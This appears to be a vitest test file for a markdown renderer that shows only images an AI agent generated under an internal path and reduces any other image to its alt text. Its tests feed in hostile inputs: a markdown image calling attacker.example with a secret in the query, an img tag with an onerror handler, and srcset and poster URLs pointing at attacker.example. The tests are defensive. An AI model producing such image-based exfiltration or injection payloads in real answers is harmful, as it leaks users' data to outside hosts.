import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { generatedImageMarkdown } from '@atrium/contract';
import { renderMarkdown } from './render-markdown';
import { loadMarkdown } from './markdown-loader';
import { MarkdownView } from './markdown-view';

const uri =
  '/api/internal/generatedImages/7d1c1d3e-0000-4000-8000-000000000001/7d1c1d3e-0000-4000-8000-000000000002/Ab3_kZ-9xYwq0PlMnOpQrs/lighthouse-at-dusk-3f9a2c1e.png';
const html = (markdown: string) =>
  renderMarkdown(markdown)
    .map((p) => (p.kind === 'html' ? p.html : ''))
    .join('');

describe('images in answers', () => {
  it('shows an image the agent created here, with its title as alt text, lazily', () => {
    const container = document.createElement('div');
    container.innerHTML = html(`Here it is.${generatedImageMarkdown({ title: 'Lighthouse at dusk', uri })}More text.`);
    const img = container.querySelector('img')!;
    expect(img.getAttribute('src')).toBe(uri);
    expect(img.getAttribute('alt')).toBe('Lighthouse at dusk');
    expect(img.getAttribute('title')).toBe('Lighthouse at dusk');
    expect(img.getAttribute('loading')).toBe('lazy');
    expect(img.className).toBe('generated-image');
    expect(container.textContent).toContain('More text.');
  });

  it('keeps only the alt text of any other image, in markdown or raw HTML', () => {
    const others = [
      '![the secret](https://attacker.example/log?q=secret)',
      `![protocol-relative](//attacker.example${uri})`,
      `![with a query](${uri}?q=secret)`,
      '![elsewhere here](/api/internal/Brands/default/logo.png)',
      '<img src="https://attacker.example/x.png" alt="raw" onerror="alert(1)">',
      '![data](data:image/png;base64,iVBORw0KGgo=)',
    ];
    for (const markdown of others) {
      const container = document.createElement('div');
      container.innerHTML = html(markdown);
      expect(container.querySelector('img'), markdown).toBeNull();
      expect(container.innerHTML, markdown).not.toContain('attacker');
      expect(container.innerHTML, markdown).not.toContain('onerror');
    }
    const container = document.createElement('div');
    container.innerHTML = html('![the secret](https://attacker.example/log)');
    expect(container.textContent?.trim()).toBe('the secret');
  });

  it('drops srcset and media that could load something else beside an allowed image', () => {
    const container = document.createElement('div');
    container.innerHTML = html(
      `<img src="${uri}" srcset="https://attacker.example/x.png 2x" alt="x"><picture><source srcset="https://attacker.example/y.png"></picture><video poster="https://attacker.example/z.png"></video>`,
    );
    expect(container.querySelectorAll('img')).toHaveLength(1);
    expect(container.innerHTML).not.toContain('attacker');
  });

  it('renders the image in the answer view after the renderer loads', async () => {
    await loadMarkdown();
    const view = render(<MarkdownView text={`Done.${generatedImageMarkdown({ title: 'Lighthouse at dusk', uri })}`} />);
    expect(view.getByRole('img', { name: 'Lighthouse at dusk' }).getAttribute('src')).toBe(uri);
  });
});
